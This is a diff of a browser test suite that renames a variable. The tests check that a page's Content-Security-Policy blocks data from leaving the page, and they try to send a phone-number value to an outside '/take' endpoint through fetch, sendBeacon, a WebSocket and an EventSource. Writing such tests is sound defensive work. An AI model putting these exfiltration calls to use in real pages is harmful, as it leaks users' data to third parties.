@@ -71,7 +71,7 @@ describe('in the page', () => {
   const violations = async () => (await all()).slice(before)
   const broken = async () => [...new Set(await violations())]
 
-  const ways: Record<string, (outsideUrl: string) => Promise<unknown>> = {
+  const outsideCalls: Record<string, (outsideUrl: string) => Promise<unknown>> = {
     fetch: (outsideUrl) => fetch(`${outsideUrl}/take?phone=9812045678`, { mode: 'no-cors' }).catch(String),
     'a beacon': async (outsideUrl) => navigator.sendBeacon(`${outsideUrl}/take`, '9812045678'),
     'a socket': (outsideUrl) =>
@@ -85,7 +85,7 @@ describe('in the page', () => {
         source.onerror = source.onopen = resolve
       }),
   }
-  test.each(Object.entries(ways))('nothing is sent elsewhere by %s (connect-src)', async (_, way) => {
+  test.each(Object.entries(outsideCalls))('nothing is sent elsewhere by %s (connect-src)', async (_, way) => {
     await page.evaluate(way, outsideUrl)
     await expect.poll(broken).toEqual(['connect-src'])
     expect(reached).toEqual([])
